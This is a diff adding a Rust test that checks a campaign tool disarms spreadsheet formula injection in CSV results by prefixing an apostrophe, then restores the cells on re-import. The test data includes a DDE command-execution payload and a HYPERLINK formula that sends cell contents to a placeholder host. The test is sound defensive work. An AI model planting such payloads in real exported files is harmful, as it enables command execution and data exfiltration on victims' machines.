@@ -73,6 +73,29 @@ fn the_audience_s_columns_are_unchanged_but_for_formulas() {
 }
 
 #[test]
+fn a_faulty_openid_that_is_a_formula_is_disarmed_and_comes_back_as_it_was() {
+    let world = World::with_recipients(1);
+    world.edit("campaign.toml", "[message.text]", "invalid_rows = \"skip\"\n[message.text]");
+    let rows = [
+        ("=cmd|' /C calc'!A0".to_owned(), "'=cmd|' /C calc'!A0"),
+        ("\"=HYPERLINK(\"\"http://x/?\"\"&A3)\"".to_owned(), "'=HYPERLINK(\"http://x/?\"&A3)"),
+        ("@SUM(1)".to_owned(), "'@SUM(1)"),
+        ("+1+1".to_owned(), "'+1+1"),
+        (format!("-{}", openid(1)), "-oTEST00000000000000000000001"),
+    ];
+    let rows_of: Vec<String> = rows.iter().map(|(cell, _)| format!("{cell},x\n")).collect();
+    world.file("audience.csv", world.read("audience.csv") + &rows_of.concat());
+    world.send(&Platform::new("")).exits(0);
+    let shown: Vec<String> = world.results().iter().map(|row| row[0].to_owned()).collect();
+    let expected: Vec<&str> = rows.iter().map(|(_, shown)| *shown).collect();
+    assert_eq!(shown[1..], expected);
+    // As the next list its cells are what they were.
+    std::fs::rename(world.path("spring.local.results.csv"), world.path("audience.csv")).expect("it is moved");
+    let plan = world.run(&["plan", "campaign.toml", "--format", "json"]).exits(0).json();
+    assert_eq!((&plan["rows"], &plan["invalid"]), (&6.into(), &4.into()), "{plan}");
+}
+
+#[test]
 fn an_errmsg_that_is_a_formula_is_disarmed() {
     let world = World::with_recipients(1);
     world.send(&Platform::new("[[answers]]\ncode = 45015\nerrmsg = \"=HYPERLINK(1)\"")).exits(5);
